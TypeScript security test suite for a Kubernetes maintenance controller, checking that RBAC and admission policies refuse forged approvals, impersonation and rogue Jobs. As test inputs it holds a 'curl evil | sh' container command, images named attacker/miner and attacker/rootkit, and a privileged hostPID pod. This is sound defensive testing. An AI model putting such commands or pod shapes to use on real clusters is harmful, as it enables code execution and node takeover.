/**
 * The attack suite of issue 15, written once and run on both backends: the embedded sim
 * (test/integration/attack.test.ts) and the real kube-apiserver (test/real/attack.test.ts). With
 * infra/k8s's CRDs, RBAC and admission policies applied, four attacker identities try every route
 * to an unapproved drain we could think of:
 *
 * - mallory: may patch nodes and do anything to kubemaint.io objects, and is not an approver;
 * - the agent's ServiceAccount, its token bound to a pod on node A;
 * - the executor's ServiceAccount, its token bound to a pod on node A;
 * - alice, an approver, acting twice (twice from the CLI, and once more as her Slack self).
 *
 * The control plane runs as serve's ServiceAccount (kubemaint's real tick code); its own token also
 * tries to make a hook Job (ADR 0021) into a privileged pod on node A. After every route
 * the suite checks the outcome that matters: no Job for node A, node A not cordoned, and the refusal
 * says why. A positive control (alice and bob approve a request for node B) proves the suite is not
 * vacuous: that one does get its Job. Each route counts its attempts for RELIABILITY.md.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import {
  ApiException,
  BatchV1Api,
  CoreV1Api,
  CustomObjectsApi,
  KubeConfig,
  KubernetesObjectApi,
  type KubernetesObject,
} from '@kubernetes/client-node';
import {
  approveRequest,
  submitMaintenance,
  type CommandDeps,
} from '../../src/app/control/commands.js';
import { runTick, type TickDeps } from '../../src/app/control/tick.js';
import { createKubeClient } from '../../src/adapters/kube/client.js';
import { controlCluster } from '../../src/adapters/kube/control-cluster.js';
import { MERGE_PATCH } from '../../src/adapters/kube/nodes.js';
import { decisionName } from '../../src/adapters/kube/requests.js';
import { impersonating } from '../../src/adapters/kube/whoami.js';
import { ANN_REQUEST } from '../../src/core/names.js';
import type { MaintenanceRequest } from '../../src/core/request.js';
import { clusterPeers } from '../../src/compose/cluster-peers.js';
import { clusterReasons } from '../../src/core/cluster-policy.js';
import { buildExecutorJob } from '../../templates/executor-job.js';
import { buildHookJob } from '../../templates/hook-job.js';
import type { Identities } from './sim-identities.js';
import { apply, applyAll, applyKubemaint, manifests } from './apply-infra.js';
import { cleanKubemaint } from './clean-kubemaint.js';
import { testControlSettings } from './control.js';
import { requestReader } from './requests.js';

export interface AttackBackend {
  name: 'sim' | 'real';
  /** system:masters: for setting up and reading back only. */
  adminKubeconfig: string;
  identities: Identities;
  /** The folder of infra/k8s. */
  infra: string;
  /** Wall-time wait helper, e.g. the sim support's waitFor. */
  close?: () => Promise<void>;
}

const NS = 'kubemaint';
const NODE_A = 'attack-a';
const NODE_B = 'attack-b';
/** A node of "staging" whose reboot failed, for the gate across clusters (issue 22). */
const NODE_C = 'attack-c';
const GROUP = 'kubemaint.io';
const VERSION = 'v1beta1';

/** Attempts per route, printed at the end (the figures RELIABILITY.md quotes). */
const attempts = new Map<string, number>();
const count = (route: string, n = 1) => attempts.set(route, (attempts.get(route) ?? 0) + n);

function config(path: string, impersonate?: string): KubeConfig {
  const kc = new KubeConfig();
  kc.loadFromFile(path);
  // The CLI's own impersonation (kubectl --as), not a copy of it.
  return impersonate ? impersonating(kc, impersonate) : kc;
}

/** The apiserver's refusal (status code and message), or a failed assertion when it allowed it. */
async function refused(
  route: string,
  run: () => Promise<unknown>,
): Promise<{ code: number; message: string }> {
  count(route);
  try {
    await run();
  } catch (error) {
    if (error instanceof ApiException) {
      const body = typeof error.body === 'string' ? error.body : JSON.stringify(error.body);
      let message = body;
      try {
        message = (JSON.parse(body) as { message?: string }).message ?? body;
      } catch {
        // not JSON: keep the body
      }
      return { code: error.code, message };
    }
    throw error;
  }
  return assert.fail(`${route}: the apiserver allowed it`);
}

/** kubemaint's kinds as `who` reaches them (the namespace and group fixed). */
function kinds(who: KubeConfig) {
  const api = who.makeApiClient(CustomObjectsApi);
  const at = { group: GROUP, version: VERSION, namespace: NS };
  return {
    create: (plural: string, body: object) =>
      api.createNamespacedCustomObject({ ...at, plural, body }),
    get: (plural: string, name: string) =>
      api.getNamespacedCustomObject({ ...at, plural, name }) as Promise<Record<string, unknown>>,
    writeStatus: (name: string, body: object) =>
      api.replaceNamespacedCustomObjectStatus({ ...at, plural: 'maintenancerequests', name, body }),
    patch: (plural: string, name: string, body: object) =>
      api.patchNamespacedCustomObject({ ...at, plural, name, body }, MERGE_PATCH),
  };
}

const mr = (spec: Record<string, unknown>, name = `r-${randomBytes(3).toString('hex')}`) => ({
  apiVersion: `${GROUP}/${VERSION}`,
  kind: 'MaintenanceRequest',
  metadata: { name, namespace: NS },
  spec: { action: 'reboot', reason: 'attack', origin: 'person', ...spec },
});

const decision = (request: string, approver: string, extra: Record<string, unknown> = {}) => ({
  apiVersion: `${GROUP}/${VERSION}`,
  kind: 'MaintenanceApproval',
  metadata: { name: `d-${randomBytes(4).toString('hex')}`, namespace: NS },
  spec: { request, approver, decision: 'approve', ...extra },
});

export function attackSuite(start: () => Promise<AttackBackend>): void {
  describe('attacks on approvals (issue 15)', () => {
    let backend: AttackBackend;
    let admin: KubeConfig;
    let core: CoreV1Api;
    let batch: BatchV1Api;
    let serveDeps: TickDeps & CommandDeps;
    let mallory: KubeConfig;
    let reader: ReturnType<typeof requestReader>;

    const tick = (skewScan = false) => runTick(serveDeps, { skewScan });
    const depsAs = (kubeconfig: KubeConfig): TickDeps & CommandDeps => ({
      ...serveDeps,
      cluster: controlCluster(createKubeClient(kubeconfig), {
        namespace: NS,
        now: () => new Date(),
        slackTeam: 'T0KUBEMAINT',
      }),
    });

    /** What must hold after every route: nothing disruptive happened to node A. */
    async function nodeAUntouched(route: string): Promise<void> {
      await tick();
      const jobs = await batch.listNamespacedJob({ namespace: NS });
      const forA = jobs.items.filter((j) => j.metadata?.name?.includes(NODE_A));
      assert.deepEqual(
        forA.map((j) => j.metadata?.name),
        [],
        `${route}: a Job for ${NODE_A}`,
      );
      const node = await core.readNode({ name: NODE_A });
      assert.notEqual(node.spec?.unschedulable, true, `${route}: ${NODE_A} was cordoned`);
    }

    before(async () => {
      backend = await start();
      admin = config(backend.adminKubeconfig);
      core = admin.makeApiClient(CoreV1Api);
      batch = admin.makeApiClient(BatchV1Api);
      const objects = KubernetesObjectApi.makeApiClient(admin);
      mallory = config(backend.identities.userKubeconfig('mallory', ['devs']));
      // infra/k8s first (the namespace, the accounts the pods below run as), enforced at the end.
      await applyAll(admin, manifests(backend.infra));
      for (const name of [NODE_A, NODE_B, NODE_C]) {
        await apply(objects, {
          apiVersion: 'v1',
          kind: 'Node',
          metadata: { name, labels: { 'kubernetes.io/hostname': name } },
        });
      }
      for (const [pod, account] of [
        ['agent-a', 'kubemaint-agent'],
        ['executor-a', 'kubemaint-executor'],
      ] as const) {
        await apply(objects, {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: pod, namespace: NS },
          spec: {
            nodeName: NODE_A,
            serviceAccountName: account,
            containers: [{ name: 'c', image: 'registry.k8s.io/pause:3.10' }],
          },
        } as KubernetesObject);
      }
      // mallory: nodes and every verb on kubemaint.io; alice and bob (group sre): kubemaint:person
      // and reading nodes, as infra/k8s/rbac-people.yaml tells operators to bind.
      const rbac = [
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRole',
          metadata: { name: 'attack-mallory' },
          rules: [
            { apiGroups: [''], resources: ['nodes'], verbs: ['get', 'list', 'patch', 'update'] },
            { apiGroups: [GROUP], resources: ['*'], verbs: ['*'] },
          ],
        },
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'attack-mallory' },
          roleRef: {
            apiGroup: 'rbac.authorization.k8s.io',
            kind: 'ClusterRole',
            name: 'attack-mallory',
          },
          subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }],
        },
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRole',
          metadata: { name: 'attack-read-nodes' },
          rules: [{ apiGroups: [''], resources: ['nodes'], verbs: ['get', 'list'] }],
        },
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'attack-sre-read-nodes' },
          roleRef: {
            apiGroup: 'rbac.authorization.k8s.io',
            kind: 'ClusterRole',
            name: 'attack-read-nodes',
          },
          subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'sre' }],
        },
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'RoleBinding',
          metadata: { name: 'sre-kubemaint', namespace: NS },
          roleRef: {
            apiGroup: 'rbac.authorization.k8s.io',
            kind: 'ClusterRole',
            name: 'kubemaint:person',
          },
          subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'sre' }],
        },
      ];
      for (const object of rbac) await apply(objects, object);

      const serve = config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve'));
      serveDeps = {
        cluster: controlCluster(createKubeClient(serve), {
          namespace: NS,
          now: () => new Date(),
          slackTeam: 'T0KUBEMAINT',
        }),
        notifier: { notify: async () => undefined },
        clusterName: backend.name,
        settings: testControlSettings({
          approval: {
            users: ['k8s:alice', 'k8s:bob', 'k8s:carol', 'U0ALICE'],
            groups: [],
            twoPersonRule: true,
            people: { 'k8s:alice': 'alice', U0ALICE: 'alice', 'k8s:bob': 'bob' },
            expiresAfterMs: 3_600_000,
          },
          // Bare Node objects never turn Ready on the real apiserver: not what this suite tests.
          blockers: { podSelectors: [], maxUnhealthyNodes: { count: 1_000 } },
          // The real template: admission lets the control plane create nothing else.
          jobFor: (node, id) =>
            buildExecutorJob({
              node,
              requestId: id,
              namespace: NS,
              image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
              serviceAccountName: 'kubemaint-executor',
              rebootMethod: 'signal',
              activeDeadlineSeconds: 600,
              ttlSecondsAfterFinished: 600,
              settingsJson: '{}',
            }) as Record<string, unknown>,
        }),
        clock: { now: () => new Date() },
        randomBytes: (n) => new Uint8Array(randomBytes(n)),
      };
      reader = requestReader(backend.adminKubeconfig);
      // mallory's RBAC lets her create decisions: the probe that says the policies are enforced.
      await applyKubemaint(admin, backend.infra, mallory);
    });

    after(async () => {
      const table = [...attempts].map(([route, n]) => `${n}\t${route}`).join('\n');
      process.stdout.write(`# attack attempts per route (${backend?.name}):\n${table}\n`);
      if (admin) {
        await cleanKubemaint(admin, {
          nodes: [NODE_A, NODE_B, NODE_C],
          pods: ['agent-a', 'executor-a'],
        });
      }
      await backend?.close?.();
    });

    it('mallory writes a whole approved request into the node annotation: carried over unapproved', async () => {
      count('node annotation: forged request');
      const forged: MaintenanceRequest = {
        id: 'r-f0f0f0',
        node: NODE_A,
        action: 'reboot',
        state: 'approved',
        reason: 'forged',
        requestedBy: 'detector',
        createdAt: new Date().toISOString(),
        updatedAt: new Date().toISOString(),
        approvals: [
          { by: 'k8s:alice', at: new Date().toISOString() },
          { by: 'k8s:bob', at: new Date().toISOString() },
        ],
        history: [],
      };
      await mallory.makeApiClient(CoreV1Api).patchNode(
        {
          name: NODE_A,
          body: { metadata: { annotations: { [ANN_REQUEST]: JSON.stringify(forged) } } },
        },
        MERGE_PATCH,
      );
      await tick(true);
      const carried = await reader.byId('r-f0f0f0');
      assert.equal(carried?.state, 'proposed');
      assert.deepEqual(carried?.approvals, [], 'approvals from an annotation never count');
      await nodeAUntouched('node annotation');
    });

    it('mallory cannot ask in anyone else’s name, nor pose as detection', async () => {
      const create = (body: object) => () => kinds(mallory).create('maintenancerequests', body);
      const asAlice = await refused(
        'request in another name',
        create(mr({ node: NODE_A, requestedBy: 'k8s:alice' })),
      );
      assert.equal(asAlice.code, 403);
      assert.match(asAlice.message, /mallory may only request maintenance in their own name/);
      const detection = await refused(
        'request posing as detection',
        create(mr({ node: NODE_A, requestedBy: 'k8s:mallory', origin: 'detection' })),
      );
      assert.match(detection.message, /only kubemaint records detections/);
      const groups = await refused(
        'request claiming groups',
        create(mr({ node: NODE_A, requestedBy: 'k8s:mallory', requestedByGroups: ['sre'] })),
      );
      assert.match(groups.message, /claims groups they are not in: sre/);
      await nodeAUntouched('requests in others’ names');
    });

    it('mallory’s own request is refused by kubemaint: she may not propose', async () => {
      count('request in her own name');
      await kinds(mallory).create(
        'maintenancerequests',
        mr({ node: NODE_B, requestedBy: 'k8s:mallory' }, 'r-3a11e0'),
      );
      await tick();
      const hers = await reader.byId('r-3a11e0');
      assert.equal(hers?.state, 'rejected');
      assert.match(hers?.failure ?? '', /may not propose maintenance/);
      await nodeAUntouched('her own request');
    });

    it('mallory cannot write a request’s status, whatever RBAC grants her', async () => {
      const target = (await reader.byId('r-f0f0f0'))!;
      const hers = kinds(mallory);
      const current = await hers.get('maintenancerequests', target.id);
      const forged = await refused('request status', () =>
        hers.writeStatus(target.id, {
          ...current,
          status: {
            state: 'approved',
            approvals: [{ by: 'k8s:alice', at: new Date().toISOString(), record: 'x' }],
          },
        }),
      );
      assert.equal(forged.code, 403);
      assert.match(forged.message, /mallory may not write a MaintenanceRequest's status/);
      const moved = await refused('request spec', () =>
        hers.patch('maintenancerequests', target.id, { spec: { node: NODE_B } }),
      );
      assert.match(moved.message, /spec is immutable/);
      await nodeAUntouched('request status');
    });

    it('mallory cannot record a decision for anyone but herself, and hers does not count', async () => {
      const record = (body: object) => () => kinds(mallory).create('maintenanceapprovals', body);
      for (const [approver, why] of [
        ['alice', /mallory may only record a decision in their own name, not as alice/],
        ['slack:T0KUBEMAINT/U0ALICE', /only kubemaint's control plane speaks for Slack users/],
        [
          'policy:autoApprove',
          /only kubemaint's control plane speaks for Slack users and policies/,
        ],
        ['kubemaint:detector', /only kubemaint's control plane/],
      ] as const) {
        const answer = await refused(
          `decision as ${approver}`,
          record(decision('r-f0f0f0', approver)),
        );
        assert.equal(answer.code, 403);
        assert.match(answer.message, why);
      }
      const claims = await refused(
        'decision claiming groups',
        record(decision('r-f0f0f0', 'mallory', { groups: ['sre'] })),
      );
      assert.match(claims.message, /claims groups they are not in: sre/);
      count('decision in her own name');
      await record(decision('r-f0f0f0', 'mallory'))();
      await nodeAUntouched('decisions');
      const request = await reader.byId('r-f0f0f0');
      assert.equal(request?.state, 'proposed');
      const applied = request?.decisions?.find((d) => /k8s:mallory/.test(d.message) || !d.ok);
      assert.equal(applied?.ok, false);
      assert.match(applied?.message ?? '', /k8s:mallory is not an approver/);
    });

    it('mallory cannot borrow alice’s identity (impersonation needs RBAC’s impersonate)', async () => {
      const asAlice = config(backend.identities.userKubeconfig('mallory', ['devs']), 'alice');
      const answer = await refused('impersonation', () =>
        asAlice.makeApiClient(CoreV1Api).listNode(),
      );
      assert.equal(answer.code, 403);
      assert.match(answer.message, /User "mallory" cannot impersonate resource "users"/);
      await nodeAUntouched('impersonation');
    });

    it('the agent of node A may change only its own keys on its own node', async () => {
      const agent = config(
        backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-agent', 'agent-a'),
      );
      const nodes = agent.makeApiClient(CoreV1Api);
      const patch = (name: string, metadata: object) => () =>
        nodes.patchNode({ name, body: { metadata } }, MERGE_PATCH);
      const other = await refused(
        'agent: another node',
        patch(NODE_B, { labels: { 'kubemaint.io/reboot-required': 'true' } }),
      );
      assert.match(other.message, /the kubemaint agent on attack-a may not change node attack-b/);
      const request = await refused(
        'agent: request annotation',
        patch(NODE_A, { annotations: { [ANN_REQUEST]: '{}' } }),
      );
      assert.match(request.message, /may only change its own annotations/);
      const state = await refused(
        'agent: state label',
        patch(NODE_A, { labels: { 'kubemaint.io/state': 'approved' } }),
      );
      assert.match(state.message, /may only change the kubemaint.io\/reboot-required label/);
      const create = await refused('agent: create a request', () =>
        kinds(agent).create(
          'maintenancerequests',
          mr({ node: NODE_A, requestedBy: 'k8s:system:serviceaccount:kubemaint:kubemaint-agent' }),
        ),
      );
      assert.equal(create.code, 403);
      // Its own key is allowed ('false': the suite wants no detection proposal on node A).
      count('agent: own key (allowed)');
      await patch(NODE_A, { labels: { 'kubemaint.io/reboot-required': 'false' } })();
      await nodeAUntouched('agent');
    });

    it('the executor’s token cannot move a request that is not running', async () => {
      const executor = config(
        backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-executor', 'executor-a'),
      );
      const its = kinds(executor);
      const current = await its.get('maintenancerequests', 'r-f0f0f0');
      const status = current['status'] as Record<string, unknown>;
      const answer = await refused('executor: start a proposal', () =>
        its.writeStatus('r-f0f0f0', {
          ...current,
          status: { ...status, state: 'running', job: 'x' },
        }),
      );
      assert.equal(answer.code, 403);
      assert.match(
        answer.message,
        /may only move a running request to verifying, failed or skipped \(or cancelled, when an approver chose to skip the node\), not proposed to running/,
      );
      await nodeAUntouched('executor token');
    });

    it('the executor’s token fails a request whose host command it issued, and ends it no other way', async () => {
      // As dispatch and the executor leave it: serve starts it, the executor records the host
      // command as issued (verifying); then `systemctl reboot` fails (refused by an inhibitor).
      const serve = kinds(
        config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve')),
      );
      const its = kinds(
        config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-executor', 'executor-a')),
      );
      const name = 'r-0e0e0e';
      await serve.create(
        'maintenancerequests',
        mr({ node: NODE_A, requestedBy: 'detector' }, name),
      );
      const at = new Date().toISOString();
      const created = await serve.get('maintenancerequests', name);
      await serve.writeStatus(name, {
        ...created,
        status: { state: 'verifying', job: `kubemaint-${NODE_A}-0e0e0e`, hostCommandIssuedAt: at },
      });
      try {
        const verifying = await its.get('maintenancerequests', name);
        const status = verifying['status'] as Record<string, unknown>;
        const done = await refused('executor: end a verifying request as done', () =>
          its.writeStatus(name, { ...verifying, status: { ...status, state: 'done' } }),
        );
        assert.equal(done.code, 403);
        assert.match(
          done.message,
          /may move a verifying request only to failed.*not verifying to done/,
        );
        await its.writeStatus(name, {
          ...verifying,
          status: { ...status, state: 'failed', failure: 'systemd refused the reboot' },
        });
        assert.equal((await reader.byId(name))?.state, 'failed');
      } finally {
        // An ended request of node A would count in later routes' gates.
        await admin.makeApiClient(CustomObjectsApi).deleteNamespacedCustomObject({
          group: GROUP,
          version: VERSION,
          namespace: NS,
          plural: 'maintenancerequests',
          name,
        });
      }
    });

    it('a status forged with serve’s own token is caught: no decision object backs it', async () => {
      count('status written with the control plane’s token');
      const target = (await reader.byId('r-f0f0f0'))!;
      const forged: MaintenanceRequest = {
        ...target,
        state: 'approved',
        approvals: [
          { by: 'k8s:alice', at: new Date().toISOString(), record: 'r-f0f0f0-approve-0000000000' },
          { by: 'k8s:bob', at: new Date().toISOString() },
        ],
      };
      const stored = await serveDeps.cluster.findRequest(target.id);
      await serveDeps.cluster.writeRequest(forged, stored!.requestVersion);
      await nodeAUntouched('forged status');
      const after = await reader.byId('r-f0f0f0');
      assert.equal(after?.state, 'failed');
      assert.match(after?.failure ?? '', /no MaintenanceApproval backs: k8s:alice, k8s:bob/);
    });

    it('serve’s own token creates only executor Jobs and writes only its pause switch', async () => {
      const serve = config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve'));
      const jobs = serve.makeApiClient(BatchV1Api);
      const job = buildExecutorJob({
        node: NODE_A,
        requestId: 'r-0a0a0a',
        namespace: NS,
        image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
        serviceAccountName: 'kubemaint-executor',
        rebootMethod: 'signal',
        activeDeadlineSeconds: 600,
        ttlSecondsAfterFinished: 600,
        settingsJson: '{}',
      });
      const container = job.spec!.template.spec!.containers[0]!;
      const shapes: [string, object, RegExp][] = [
        [
          'another image',
          { image: 'docker.io/attacker/miner:latest' },
          /the executor image docker.io\/attacker\/miner:latest is not one of ghcr.io\/kubemaint\/kubemaint/,
        ],
        [
          'a shell',
          { command: ['sh', '-c', 'curl evil | sh'] },
          /runs `executor --node N --request R` on node N/,
        ],
        [
          'another node',
          { args: ['executor', '--node', NODE_B, '--request', 'r-0a0a0a'] },
          /on node N, nothing else/,
        ],
      ];
      for (const [what, change, why] of shapes) {
        const body = structuredClone(job);
        body.metadata!.name = `attack-${what.replace(/\s/g, '-')}`;
        Object.assign(body.spec!.template.spec!.containers[0]!, container, change);
        const answer = await refused(`serve token: Job with ${what}`, () =>
          jobs.createNamespacedJob({ namespace: NS, body }),
        );
        assert.equal(answer.code, 403, what);
        assert.match(answer.message, why);
      }
      const asRoot = structuredClone(job);
      asRoot.metadata!.name = 'attack-other-account';
      asRoot.spec!.template.spec!.serviceAccountName = 'default';
      const account = await refused('serve token: Job as another account', () =>
        jobs.createNamespacedJob({ namespace: NS, body: asRoot }),
      );
      assert.match(account.message, /runs as kubemaint-executor/);
      const config_ = await refused('serve token: its own configuration', () =>
        serve.makeApiClient(CoreV1Api).createNamespacedConfigMap({
          namespace: NS,
          body: {
            metadata: { name: 'kubemaint-config' },
            data: { 'kubemaint.yaml': 'approval: {}' },
          },
        }),
      );
      assert.equal(config_.code, 403);
      assert.match(
        config_.message,
        /may write only the kubemaint-pause, kubemaint-durations, kubemaint-agent and kubemaint-history ConfigMaps, not kubemaint-config/,
      );
      await nodeAUntouched('serve token');
    });

    it('serve’s own token cannot make a hook Job a privileged pod on node A (ADR 0021)', async () => {
      const jobs = config(
        backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve'),
      ).makeApiClient(BatchV1Api);
      // A hook pinned to node A, from an image no operator listed: refused as shipped.
      const hook = buildHookJob({
        node: NODE_A,
        requestId: 'r-0a0a0a',
        action: 'reboot',
        phase: 'beforeDrain',
        namespace: NS,
        template: {
          spec: { containers: [{ name: 'hook', image: 'docker.io/attacker/rootkit:1' }] },
        },
        timeoutSeconds: 600,
        ttlSecondsAfterFinished: 600,
        onNode: true,
      });
      const plain = await refused('serve token: hook Job from an unlisted image', () =>
        jobs.createNamespacedJob({ namespace: NS, body: hook }),
      );
      assert.equal(plain.code, 403);
      assert.match(
        plain.message,
        /hook image docker.io\/attacker\/rootkit:1 is not from this policy's hookRepositories/,
      );
      const shapes: [
        string,
        (pod: NonNullable<typeof hook.spec>['template']['spec']) => void,
        RegExp,
      ][] = [
        [
          'the executor’s account',
          (pod) => (pod!.serviceAccountName = 'kubemaint-executor'),
          /runs as kubemaint-hook/,
        ],
        [
          'node A by name, every taint tolerated',
          (pod) => {
            pod!.nodeName = NODE_A;
            pod!.tolerations = [{ operator: 'Exists' }];
          },
          /kubemaint-hook-jobs/,
        ],
        [
          'privileged with the host’s PID namespace',
          (pod) => {
            pod!.hostPID = true;
            pod!.containers[0]!.securityContext = { privileged: true };
          },
          /kubemaint-hook-jobs/,
        ],
      ];
      for (const [what, change, why] of shapes) {
        const body = structuredClone(hook);
        body.metadata!.name = `attack-hook-${what.replace(/[^a-z]+/gi, '-').toLowerCase()}`.slice(
          0,
          63,
        );
        change(body.spec!.template.spec);
        const answer = await refused(`serve token: hook Job with ${what}`, () =>
          jobs.createNamespacedJob({ namespace: NS, body }),
        );
        assert.equal(answer.code, 403, what);
        assert.match(answer.message, why, what);
      }
      await nodeAUntouched('hook Job');
    });

    it('one approver twice counts once, her Slack self is the same person, and alice + bob get their Job', async () => {
      const alice = config(backend.identities.userKubeconfig('alice', ['sre']));
      const bob = config(backend.identities.userKubeconfig('bob', ['sre']));
      const aliceDeps = depsAs(alice);
      const asked = await submitMaintenance(aliceDeps, {
        node: NODE_B,
        action: 'reboot',
        reason: 'kernel',
        by: { kind: 'person', id: 'k8s:alice', groups: ['k8s:sre'] },
      });
      assert.ok(asked.ok, asked.message);
      const id = asked.request!.id;
      await tick();
      assert.equal((await reader.byId(id))?.state, 'proposed');
      // The requester may not approve under the two-person rule: a request bob asks for instead.
      const bobDeps = depsAs(bob);
      const bobAsks = await submitMaintenance(bobDeps, {
        node: NODE_A,
        action: 'reboot',
        by: { kind: 'person', id: 'k8s:bob', groups: ['k8s:sre'] },
      });
      assert.ok(bobAsks.ok);
      await tick();
      const target = bobAsks.request!.id;
      const me = { kind: 'person', id: 'k8s:alice', groups: ['k8s:sre'] } as const;
      count('one approver twice', 2);
      const first = await aliceDeps.cluster.decide({
        request: target,
        by: me.id,
        decision: 'approve',
        groups: ['k8s:sre'],
      });
      const second = await aliceDeps.cluster.decide({
        request: target,
        by: me.id,
        decision: 'approve',
        groups: ['k8s:sre'],
      });
      assert.equal(first.created, true);
      assert.equal(second.created, false, 'deciding twice is one object');
      assert.equal(first.name, decisionName(target, 'approve', 'k8s:alice'));
      await nodeAUntouched('alice twice');
      assert.equal((await reader.byId(target))?.state, 'proposed', 'one person is not two');
      count('same person from Slack');
      const slack = await approveRequest(serveDeps, target, { kind: 'person', id: 'U0ALICE' });
      assert.equal(slack.ok, false);
      assert.match(slack.message, /same person \(alice\)/);
      await nodeAUntouched('alice from Slack');
      // Bob asked for node A, so he may not approve it: still no second person.
      count('requester approves own request');
      await bobDeps.cluster.decide({
        request: target,
        by: 'k8s:bob',
        decision: 'approve',
        groups: ['k8s:sre'],
      });
      await nodeAUntouched('requester approves');
      assert.equal((await reader.byId(target))?.state, 'proposed');
      // Positive control: alice asked for node B, so under the rule two others approve it.
      await bobDeps.cluster.decide({
        request: id,
        by: 'k8s:bob',
        decision: 'approve',
        groups: ['k8s:sre'],
      });
      const carol = depsAs(config(backend.identities.userKubeconfig('carol', ['sre'])));
      await carol.cluster.decide({
        request: id,
        by: 'k8s:carol',
        decision: 'approve',
        groups: ['k8s:sre'],
      });
      await tick();
      await tick();
      const started = await reader.byId(id);
      assert.ok(
        started && ['running', 'verifying', 'done', 'failed'].includes(started.state),
        `the control request starts (it is ${started?.state})`,
      );
      const jobs = await batch.listNamespacedJob({ namespace: NS });
      assert.ok(
        jobs.items.some((j) => j.metadata?.name?.includes(NODE_B)),
        'two persons approved: the Job exists',
      );
      await nodeAUntouched('after the control');
    });

    it('the gate across clusters: staging’s later requests cannot lift a failure, and objects it cannot judge hold production (issue 22)', async () => {
      // This backend plays staging; production's gate reads it as serve does, through serve's
      // own credentials for staging (compose/cluster-peers.ts), strictly.
      const peers = clusterPeers({
        gate: { order: [['staging'], ['production']], soak: 0 },
        names: ['staging', 'production'],
      });
      peers.add('staging', serveDeps.cluster);
      // Staging's status writer: its control plane (admission lets nobody else write status).
      const serveToken = config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve'));
      const asServe = requestReader(serveToken);
      const gate = async () => {
        const now = new Date();
        const read = await peers.port.read(['staging']);
        const facts = { self: 'production', policy: peers.port.policy, peers: read };
        return clusterReasons({ ...facts, selfInMaintenance: false, claimed: [] }, now, (at) =>
          at.toISOString(),
        );
      };
      const at = (minutesAgo: number) => new Date(Date.now() - minutesAgo * 60_000).toISOString();
      const failed = await asServe.seed({
        id: 'r-c0ffa1',
        node: NODE_C,
        action: 'reboot',
        state: 'failed',
        reason: 'kernel',
        requestedBy: 'detector',
        createdAt: at(60),
        updatedAt: at(50),
        approvals: [],
        history: [{ from: 'verifying', to: 'failed', at: at(50), by: 'kubemaint' }],
        failure: 'node did not come back',
      });
      assert.match((await gate()).join('\n'), /request r-c0ffa1 on attack-c failed/);

      // mallory may create requests in staging (RBAC), not propose: hers is rejected, and it is
      // the node's latest request. Production must still wait for a done one.
      count('staging: a later rejected request on the failed node');
      await kinds(mallory).create(
        'maintenancerequests',
        mr({ node: NODE_C, requestedBy: 'k8s:mallory' }, 'r-c0ffa2'),
      );
      // Until staging's control plane refuses it, it is unfinished maintenance there: whoever may
      // create requests in an earlier cluster can hold the later ones (fail closed, by design).
      assert.match((await gate()).join('\n'), /staging .* has unfinished maintenance/);
      await tick();
      assert.equal((await reader.byId('r-c0ffa2'))?.state, 'rejected');
      const afterHers = (await gate()).join('\n');
      assert.match(afterHers, /request r-c0ffa1 on attack-c failed/, 'the failure still stops it');

      // Staging's status writers (its control plane, its admins) are trusted for staging's facts;
      // what they write that is not a time, or not a request, holds production (fail closed).
      count('staging: a done request whose times are not times');
      const done = await asServe.seed({
        ...failed,
        id: 'r-c0ffa3',
        state: 'done',
        createdAt: 'yesterday',
        history: [],
        updatedAt: 'now',
      });
      assert.equal(done.state, 'done');
      assert.match(
        (await gate()).join('\n'),
        /requests the gate cannot judge \(r-c0ffa3: its createdAt "yesterday" is not a time\)/,
      );
      await kinds(mallory).create(
        'maintenancerequests',
        mr({ node: NODE_C, requestedBy: 'k8s:mallory' }, 'r-c0ffa4'),
      );
      count('staging: a request status the codec cannot read');
      const broken = await kinds(serveToken).get('maintenancerequests', 'r-c0ffa4');
      await kinds(serveToken).writeStatus('r-c0ffa4', { ...broken, status: { createdAt: at(1) } });
      assert.match(
        (await gate()).join('\n'),
        /cluster staging goes before production \(blockers\.clusters\.order\) and cannot be read \(MaintenanceRequest r-c0ffa4 cannot be read/,
      );

      // Deleting the failed request lifts the stop (ADR 0027: an operator's way to say the node is
      // fine). RBAC decides who may: mallory's '*' on kubemaint.io does; kubemaint:person does not.
      count('staging: the failed request deleted');
      for (const id of ['r-c0ffa1', 'r-c0ffa3', 'r-c0ffa4'])
        await mallory.makeApiClient(CustomObjectsApi).deleteNamespacedCustomObject({
          group: GROUP,
          version: VERSION,
          namespace: NS,
          plural: 'maintenancerequests',
          name: id,
        });
      const lifted = (await gate()).join('\n');
      // Other routes leave their own requests behind (attack-a's failed one): only attack-c's matter.
      assert.doesNotMatch(lifted, /attack-c|r-c0ffa|cannot (be read|judge)/);
    });
  });
}
